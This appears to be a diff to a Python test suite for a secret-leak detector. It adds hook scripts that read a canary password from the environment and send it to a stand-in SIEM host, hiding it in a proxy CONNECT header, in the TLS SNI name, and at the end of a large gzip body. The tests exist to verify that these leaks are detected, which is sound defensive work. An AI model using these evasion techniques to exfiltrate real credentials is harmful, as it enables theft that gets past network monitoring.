@@ -309,3 +309,78 @@ def test_a_secret_in_a_chunked_trailer_sent_through_the_capture_is_found():
     assert request.trailers, "the capture recorded no trailer"
     leaks = find_leaks([request], canaries)
     assert {(leak.label, leak.where) for leak in leaks} == {(PASS_LABEL, "trailer X-Checksum")}
+
+
+# A hook that puts the secret where no request line or header of the SIEM's would: in the
+# CONNECT's own headers, and in the name it asks for in TLS SNI. Both leave the machine:
+# a proxy on the way reads the first, anyone on the network the second.
+TUNNEL_SENDER = """\
+import base64, json, os, socket, ssl
+secret = json.loads(os.environ["HOOP_RUNBOOK_HOOK_PAYLOAD"])["event_session_open"]
+secret = secret["connection_envs"]["envvar:PASS"]
+proxy = os.environ["HTTPS_PROXY"]
+user_password, address = proxy.split("//", 1)[1].rsplit("@", 1)
+host, port = address.split(":")
+auth = "Basic " + base64.b64encode(user_password.encode()).decode()
+sock = socket.create_connection((host, int(port)), timeout=10)
+sock.sendall(
+    b"CONNECT siem.example.com:443 HTTP/1.1\\r\\nHost: siem.example.com:443\\r\\n"
+    + b"Proxy-Authorization: " + auth.encode() + b"\\r\\n"
+    + b"X-Tunnel-Token: " + secret.encode() + b"\\r\\n\\r\\n"
+)
+assert sock.recv(4096).startswith(b"HTTP/1.1 200")
+context = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
+context.check_hostname = False  # the SNI name below is not the certificate's
+name = secret.strip("=").lower() + ".siem.example.com"  # as a host name: lower case
+tls = context.wrap_socket(sock, server_hostname=name)
+tls.sendall(b"POST /events HTTP/1.1\\r\\nHost: siem.example.com\\r\\nContent-Length: 2\\r\\n\\r\\n{}")
+print(tls.recv(4096).split(b"\\r\\n")[0].decode())
+"""
+
+
+def test_a_secret_in_the_connects_headers_or_in_tls_sni_is_found():
+    with Capture() as capture:
+        canaries = fire(capture, TUNNEL_SENDER)
+        [request] = capture.requests
+    secret = canaries[PASS_LABEL]
+    assert secret.strip("=").isalnum()  # a name in SNI: base64 without + or /
+    assert ("X-Tunnel-Token", secret) in request.tunnel_headers
+    assert not [name for name, _ in request.tunnel_headers if name == "Proxy-Authorization"]
+    assert request.server_name == secret.strip("=").lower() + ".siem.example.com"
+
+    leaks = find_leaks([request], canaries)
+    assert {(leak.label, leak.where) for leak in leaks} == {
+        (PASS_LABEL, "tunnel header X-Tunnel-Token"),
+        (PASS_LABEL, "TLS SNI"),
+    }
+    assert all("case-folded" in leak.form for leak in leaks if leak.where == "TLS SNI")
+
+
+LARGE_GZIP_SENDER = """\
+import gzip, http.client, json, os, zlib
+secret = json.loads(os.environ["HOOP_RUNBOOK_HOOK_PAYLOAD"])["event_session_open"]
+secret = secret["connection_envs"]["envvar:PASS"]
+packer = zlib.compressobj(9, zlib.DEFLATED, 31)  # gzip, written a piece at a time
+body = [packer.compress(b"\\0" * (1 << 20)) for _ in range(300)]  # 300 MiB of padding...
+body += [packer.compress(secret.encode()), packer.flush()]  # ...then the secret
+proxy = os.environ["HTTP_PROXY"]
+user_password, address = proxy.split("//", 1)[1].rsplit("@", 1)
+import base64
+connection = http.client.HTTPConnection(*address.split(":"), timeout=60)
+connection.request("POST", "http://siem.example.com/events", body=b"".join(body), headers={
+    "Content-Encoding": "gzip",
+    "Proxy-Authorization": "Basic " + base64.b64encode(user_password.encode()).decode(),
+})
+print(connection.getresponse().status)
+"""
+
+
+def test_a_secret_at_the_end_of_a_body_that_decodes_past_256_mib_is_found():
+    with Capture() as capture:
+        canaries = fire(capture, LARGE_GZIP_SENDER)
+        [request] = capture.requests
+        assert request.body_size < 1 << 20  # what travelled is small...
+        assert request.content == request.body  # ...and decodes past the memory cap
+        leaks = find_leaks([request], canaries)
+    assert (PASS_LABEL, "body", "gzip") in {(leak.label, leak.where, leak.form) for leak in leaks}
+    assert {leak.where for leak in leaks} == {"body"}
